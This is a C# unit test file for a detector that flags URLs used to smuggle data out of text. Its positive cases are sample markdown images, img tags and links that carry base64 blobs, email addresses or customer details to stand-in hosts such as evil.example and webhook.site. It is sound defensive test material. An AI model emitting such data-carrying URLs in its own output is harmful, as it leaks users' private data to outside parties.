namespace SaaSGate.Inspection.Tests.Exfiltration;

public sealed class ExfilUrlDetectorTests
{
    private const string Blob = "aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ";

    [Theory]
    [InlineData("![chart](https://img.example.net/c.png?d=" + Blob + ")", "https://img.example.net/c.png?d=" + Blob)]
    [InlineData("See https://log.example.net/?data=" + Blob + ".", "https://log.example.net/?data=" + Blob)]
    [InlineData("<img src=\"https://a.example.net/x.gif?msg=the+customer+is+called+Jane+and+lives+here\">", "https://a.example.net/x.gif?msg=the+customer+is+called+Jane+and+lives+here")]
    [InlineData("[more](https://a.example.net/c?email=jane%40example.com)", "https://a.example.net/c?email=jane%40example.com")]
    [InlineData("http://203.0.113.9/collect?q=jane@example.com now", "http://203.0.113.9/collect?q=jane@example.com")]
    [InlineData("https://" + Blob + ".evil.example/x.png?id=1234", "https://" + Blob + ".evil.example/x.png?id=1234")]
    [InlineData("![x](https://webhook.site/0b1c?u=jsmith)", "https://webhook.site/0b1c?u=jsmith")]
    public void Finds_an_address_that_carries_data(string text, string value) => Assert.Equal([$"EXFIL_URL:{value}"], Scan.Find(text, "EXFIL_URL"));

    [Theory]
    [InlineData("https://www.example.com/search?q=weather+berlin")]
    [InlineData("https://github.com/dotnet/runtime/blob/3a7d2d2a1f1b5d5f0b3c2c6f6a2f6d1c9c3b5a7e/src/x.cs")]
    [InlineData("![logo](https://www.example.com/images/logo-2024.png?v=20240102)")]
    [InlineData("https://news.example.com/2024/05/01/why-the-river-is-longer-than-everybody-thought-it-was")]
    [InlineData("https://bucket.s3.amazonaws.com/a.png?X-Amz-Signature=4ad4e0a8f2bdcd0e8a3b1f7c0c8c5d2e7b6a1f0e9d8c7b6a5f4e3d2c1b0a9f8e")]
    [InlineData("https://example.com/?utm_source=newsletter&utm_campaign=summer_sale_of_the_year_2024")]
    [InlineData("https://docs.example.com/a/b#section-of-the-page")]
    [InlineData("https://example.com/users/550e8400-e29b-41d4-a716-446655440000/profile")]
    public void Leaves_ordinary_addresses_alone(string text) => Assert.Empty(Scan.Find(text, "EXFIL_URL"));

    [Fact]
    public void Swallows_a_long_address_to_its_end()
    {
        var url = "https://a.example.net/x.png?d=" + string.Concat(Enumerable.Repeat(Blob, 20));
        Assert.Equal([$"EXFIL_URL:{url}"], Scan.Find($"![a]({url}) and more", "EXFIL_URL"));
    }
}
